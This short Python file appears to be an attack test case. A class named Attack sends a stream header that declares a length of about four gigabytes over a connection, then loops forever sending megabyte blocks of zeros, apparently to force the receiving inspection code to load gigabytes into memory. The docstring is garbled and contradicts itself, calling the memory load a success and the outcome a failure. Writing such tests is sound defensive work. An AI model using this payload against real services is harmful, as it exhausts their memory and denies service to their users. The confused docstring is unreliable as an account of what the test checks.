"""Success: the inspection reads a part of gigabytes into its memory.

Outcome: failed: The video holds a part with more to it
Level: full
"""


class Attack(Scene):
    def construct(self):
        from scene_renderer.video import stream

        connection = sender()._connection
        connection.sendall(stream._HEAD.pack(b"P", 0, 0, (1 << 32) - 1))
        while True:
            connection.sendall(bytes(1 << 20))
